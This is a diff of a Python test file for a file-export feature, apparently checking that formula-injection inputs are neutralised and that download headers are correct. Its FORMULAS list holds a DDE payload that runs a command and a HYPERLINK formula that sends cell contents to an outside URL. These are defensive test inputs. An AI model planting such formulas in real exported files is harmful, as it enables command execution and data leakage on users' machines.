@@ -17,7 +17,7 @@ from partnership.roles import Role
 
 FORMULAS = [
     "=1+1",
-    "=HYPERLINK(\"http://example.org?\"&A1,\"click\")",
+    '=HYPERLINK("http://example.org?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
@@ -150,7 +150,9 @@ def test_a_choice_is_its_text():
 def test_it_is_a_download_named_after_the_day(kind, content_type):
     response = file_response(kind, "escalations", ["A"], [])
     assert response["Content-Type"] == content_type
-    assert response["Content-Disposition"] == f'attachment; filename="escalations-2026-03-27.{kind}"'
+    assert (
+        response["Content-Disposition"] == f'attachment; filename="escalations-2026-03-27.{kind}"'
+    )
     assert response["X-Content-Type-Options"] == "nosniff"
 
 
